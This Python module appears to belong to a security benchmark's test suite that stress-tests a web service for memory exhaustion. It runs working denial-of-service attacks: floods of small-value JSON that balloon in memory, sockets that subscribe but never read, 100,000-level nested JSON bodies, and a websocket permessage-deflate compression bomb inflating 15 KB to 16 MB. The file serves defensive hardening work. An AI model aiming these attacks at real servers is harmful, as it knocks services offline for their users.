"""What becomes much more in memory than it is on the wire (C4, C5)."""

from __future__ import annotations

import json
import socket
import time
import zlib
from collections import Counter
from contextlib import suppress
from struct import pack

from bench._http import Api
from bench._wsclient import Client
from bench.siege.target import GONE, Target, Verdict, answered, attack, closing_all, until_over

#: JSON of 255 KB that is 6 MB of Python's objects.
MANY_OBJECTS: dict[str, list[dict[str, int]]] = {"a": [{}] * 85_000}
MANY_NUMBERS = {"a": [0.5] * 51_000}
INFLATED = 16_000_000


def _fill(target: Target, count: int) -> tuple[Counter[int], Api]:
    """Store events of many small values in one's own project, as far as they are taken."""
    api, statuses = target.api("mallory"), Counter[int]()
    for number in range(count):
        event = {
            "type": "file_changed",
            "project_id": target.accounts["mallory"].project,
            "data": MANY_OBJECTS if number % 2 else MANY_NUMBERS,
        }
        try:
            statuses[api.call("POST", "/api/v1/events", event)[0]] += 1
        except GONE:
            api.close()
    return statuses, api


@attack("C4 events", "100 events of 255 KB of small values, 8 readers of lists of 100", 10)
def lists_of_events(target: Target) -> Verdict:
    """Read many large events at once."""
    stored, _ = _fill(target, 100)
    topic = f"project:{target.accounts['mallory'].project}"
    read = Counter[int]()

    def ask(number: int) -> bool:
        api = target.api("mallory", timeout=20)
        api.connection.request(
            "GET",
            f"/api/v1/events?topic={topic}&limit=100",
            headers={"Authorization": f"Bearer {api.token}"},
        )
        answer = api.connection.getresponse()
        read[answer.status] += 1
        while answer.read(1 << 20):
            pass
        api.close()
        return True

    until_over(target, 8, ask)
    return Verdict(True, f"stored {dict(stored)}, lists {dict(read)}")


@attack("C4 sockets", "60 such events, and 6 sockets that ask for them and don't read", 10)
def catching_up(target: Target) -> Verdict:
    """Make the server hold what nobody takes."""
    stored, _ = _fill(target, 60)
    topic = f"project:{target.accounts['mallory'].project}"
    held: list[Client] = []
    with closing_all(held):
        for _ in range(6):
            client = target.follow("mallory")
            client.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            held.append(client)
            client.send(json.dumps({"type": "subscribe", "topic": topic, "after": 0}).encode())
        time.sleep(target.seconds)
    return Verdict(True, f"stored {dict(stored)}")


@attack("C4 jobs", "26 jobs of 900 KB, and 4 readers of the list", 8)
def lists_of_jobs(target: Target) -> Verdict:
    """Read a list of jobs with payloads that it does not show."""
    api, stored, read = target.api("mallory"), Counter[int](), Counter[int]()
    rows = [{"a": [0] * 42}] * 10_000
    for _ in range(26):
        job = {
            "type": "data_processing",
            "payload": {"rows": rows},
            "run_at": "2099-01-01T00:00:00Z",
        }
        try:
            stored[api.call("POST", "/api/v1/jobs", job)[0]] += 1
        except GONE:
            api.close()

    def ask(number: int) -> bool:
        one = target.api("mallory", timeout=20)
        read[one.call("GET", "/api/v1/jobs?limit=100")[0]] += 1
        one.close()
        return True

    until_over(target, 4, ask)
    return Verdict(True, f"stored {dict(stored)}, lists {dict(read)}")


@attack("C4 bodies", "bodies of small values to every door that takes JSON, 8 connections", 8)
def bodies(target: Target) -> Verdict:
    """Have much decoded that is refused afterwards."""
    deep = "[" * 100_000
    many = json.dumps(MANY_OBJECTS, separators=(",", ":"))
    doors = ("auth/login", "projects", "tasks", "posts", "events", "jobs", "auth/register")
    statuses = Counter[int]()

    def ask(number: int) -> bool:
        api = target.api("mallory")
        for door in doors:
            headers = {"Authorization": f"Bearer {api.token}", "Content-Type": "application/json"}
            api.connection.request("POST", f"/api/v1/{door}", (many, deep)[number % 2], headers)
            answer = api.connection.getresponse()
            answer.read()
            statuses[answer.status] += 1
        api.close()
        return True

    until_over(target, 8, ask)
    return Verdict(statuses[500] == 0, f"{dict(statuses.most_common(5))}")


@attack("C5", "60 anonymous sockets, each a deflated frame of 16 MB", 6)
def bombs(target: Target) -> Verdict:
    """Negotiate permessage-deflate, and send 15 KB that become 16 MB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = packer.compress(b"x" * INFLATED) + packer.flush(zlib.Z_SYNC_FLUSH)
    frame = pack(">BBH", 0xC1, 0xFE, len(data[:-4])) + b"\0\0\0\0" + data[:-4]
    head = (
        b"GET /ws HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n"
        b"Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n"
    )
    held: list[socket.socket] = []
    agreed = 0
    with closing_all(held):
        for _ in range(60):
            with suppress(OSError):
                sock = target.raw()
                held.append(sock)
                sock.sendall(head)
                answer = sock.recv(65536)
                agreed += b"permessage-deflate" in answer and answered(answer) == "101"
                sock.sendall(frame)
        time.sleep(3)
    return Verdict(agreed == 0, f"the extension was agreed to {agreed} times")
